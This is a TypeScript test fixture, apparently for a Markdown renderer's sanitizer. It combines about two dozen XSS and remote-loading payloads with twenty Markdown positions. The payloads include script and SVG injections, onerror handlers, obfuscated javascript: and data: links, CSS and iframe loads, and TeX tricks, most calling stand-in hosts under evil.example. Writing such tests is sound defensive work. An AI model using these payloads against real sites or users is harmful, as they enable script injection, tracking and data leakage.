// Texts that a model, a file or a server could send to run something, to load something or to send something out. Each
// names its own host, so that whatever leaves says which one it was.

const fence = '```';

/** What must not run. Where one succeeds it sets `window.hostile`. */
const payloads: Readonly<Record<string, (host: string) => string>> = {
  script: (host) => `<script>window.hostile='script'</script><script src="https://${host}/x.js"></script>`,
  image: (host) => `<img src="https://${host}/x.png" onerror="window.hostile='image'">`,
  'image that fails': () => `<img src=x onerror=window.hostile='image'>`,
  svg: (host) =>
    `<svg onload="window.hostile='svg'"><image href="https://${host}/x.svg"/><use href="https://${host}/y.svg#a"/></svg>`,
  'script in svg': () => `<svg><script>window.hostile='svg'</script></svg>`,
  style: (host) => `<style>@import url(https://${host}/x.css);body{background:url(https://${host}/x.png)}</style>`,
  'style of an element': (host) => `<p style="position:fixed;inset:0;background:url(https://${host}/x.png)">cover</p>`,
  sheet: (host) => `<link rel="stylesheet" href="https://${host}/x.css"><link rel="prefetch" href="https://${host}/y">`,
  frame: (host) =>
    `<iframe src="https://${host}/"></iframe><iframe srcdoc="<script>parent.hostile='frame'</script>"></iframe>`,
  object: (host) => `<object data="https://${host}/x"></object><embed src="https://${host}/y">`,
  media: (host) =>
    `<video src="https://${host}/x" autoplay poster="https://${host}/y"></video><audio src="https://${host}/z" autoplay>`,
  form: (host) =>
    `<form action="https://${host}/"><input name=a autofocus onfocus="window.hostile='form'"><button>Send</button></form>`,
  refresh: (host) => `<meta http-equiv="refresh" content="0;url=https://${host}/"><base href="https://${host}/">`,
  'link that runs': () => `[click](javascript:window.hostile='link') <javascript:window.hostile='link'>`,
  'link that runs, hidden': () =>
    `[click](JaVaScRiPt&colon;window.hostile='link') [x](&#106;avascript:window.hostile=1) [y](java\tscript:1)`,
  'data address': () =>
    `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
  'picture of Markdown': (host) => `![tracker](https://${host}/pixel.png) ![t][ref]\n\n[ref]: https://${host}/ref.png`,
  'picture that is a link': (host) => `[![tracker](https://${host}/pixel.png)](javascript:alert(1))`,
  'broken tag': (host) =>
    `<img """><script>window.hostile='tag'</script>"> <a href="https://${host}/"onclick=window.hostile=1>x`,
  comment: () => `<!--><script>window.hostile='comment'</script>--> <![CDATA[<script>window.hostile=1</script>]]>`,
  entities: () => `&lt;script&gt;window.hostile='entities'&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;`,
  template: () =>
    `<template><script>window.hostile=1</script></template><noscript><img src=x onerror=alert(1)></noscript>`,
  mathml: (host) => `<math><mtext><img src="https://${host}/m.png" onerror="window.hostile='math'"></mtext></math>`,
  'formula that leads away': (host) =>
    `$\\href{javascript:window.hostile='tex'}{x}$ $\\includegraphics{https://${host}/x.png}$ $\\url{https://${host}/}$`,
  'formula with styles': (host) =>
    `$\\htmlStyle{background:url(https://${host}/x.png)}{x}$ $\\color{url(https://${host})}{x}$ $\\text{<img src=x onerror=alert(1)>}$`,
  'closing of our own': () => `</div></main></body><script>window.hostile='closing'</script>`,
};

/** Where it can stand in Markdown. */
const positions: Readonly<Record<string, (text: string, line: string) => string>> = {
  paragraph: (text) => text,
  'within a paragraph': (_, line) => `before ${line} after`,
  heading: (_, line) => `## ${line}`,
  'list item': (_, line) => `- ${line}\n- next`,
  'task item': (_, line) => `- [x] ${line}`,
  quote: (text) => text.replaceAll(/^/gm, '> '),
  'table cell': (_, line) => `| a | b |\n|---|---|\n| ${line.replaceAll('|', '\\|')} | x |`,
  'table head': (_, line) => `| ${line.replaceAll('|', '\\|')} | b |\n|---|---|\n| 1 | 2 |`,
  code: (text) => `${fence}html\n${text}\n${fence}`,
  'name of a language': (_, line) => `${fence}${line.replaceAll('`', '')}\ncode\n${fence}`,
  'code in a line': (_, line) => `\`${line.replaceAll('`', '')}\``,
  'text of a link': (_, line) => `[${line.replaceAll(/[[\]]/g, '')}](https://example.com/)`,
  'address of a link': (_, line) => `[text](<${line.replaceAll(/[<>]/g, '')}>)`,
  'title of a link': (_, line) => `[text](https://example.com/ "${line.replaceAll('"', "'")}")`,
  'description of a picture': (_, line) => `![${line.replaceAll(/[[\]]/g, '')}](https://example.com/x.png)`,
  'bold text': (_, line) => `**${line}**`,
  note: (_, line) => `text[^n]\n\n[^n]: ${line}`,
  'address elsewhere': (_, line) => `[text][r]\n\n[r]: <${line.replaceAll(/[<>]/g, '')}>`,
  formula: (_, line) => `$$\n\\text{${line.replaceAll(/[{}$]/g, '')}} + ${line.replaceAll('$', '')}\n$$`,
  'after HTML': (text) => `<div>\n${text}\n</div>\n\n${text}`,
};

export interface HostileCase {
  name: string;
  text: string;
}

/** Every payload in every position. */
export const hostileCases: readonly HostileCase[] = Object.entries(payloads).flatMap(([what, payload], column) =>
  Object.entries(positions).map(([where, place], row) => {
    const text = payload(`h${column}-${row}.evil.example`);
    return { name: `${what} in ${where}`, text: place(text, text.replaceAll('\n', ' ')) };
  }),
);

/** For what is one line: names, titles, notes. */
export const hostileLines: readonly string[] = Object.values(payloads).map((payload, index) =>
  payload(`n${index}.evil.example`).replaceAll('\n', ' '),
);
